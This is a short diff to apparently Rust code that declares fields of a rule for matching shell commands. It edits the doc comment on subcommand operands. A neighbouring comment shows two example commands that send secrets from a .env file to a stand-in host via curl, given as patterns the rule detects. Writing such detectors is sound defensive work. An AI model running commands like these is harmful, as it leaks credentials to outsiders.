@@ -299,7 +299,7 @@ table! {
         script: WordList<OfCommands<ScriptEffect>>,
         /// Patterns, one of which must match a line of standard input that the command line itself contains, in a here-document or as an argument of `echo`.
         input_lines: Names,
-        /// Subcommands. An operand after one of them, or after `--`, must be able to name more than one file: it has a slash at its end, is a pattern, or is neither a name with an extension nor a usual name of a file, such as `Makefile`.
+        /// Subcommands. An operand after one of them, or after `--`, must be able to name more than one file: it has a slash at its end, is a pattern, or is neither a name with an extension nor a usual name of a file, such as `Makefile`. Several operands do, too, unless they come from another commit than `HEAD`.
         folders_after: Names,
         /// Places. An argument, a variable in one, or standard input must contain data of a file in one of them, as in `curl "https://x/$(cat .env)"` and `. ./.env; curl -d "$KEY" x`.
         data_in: Names,
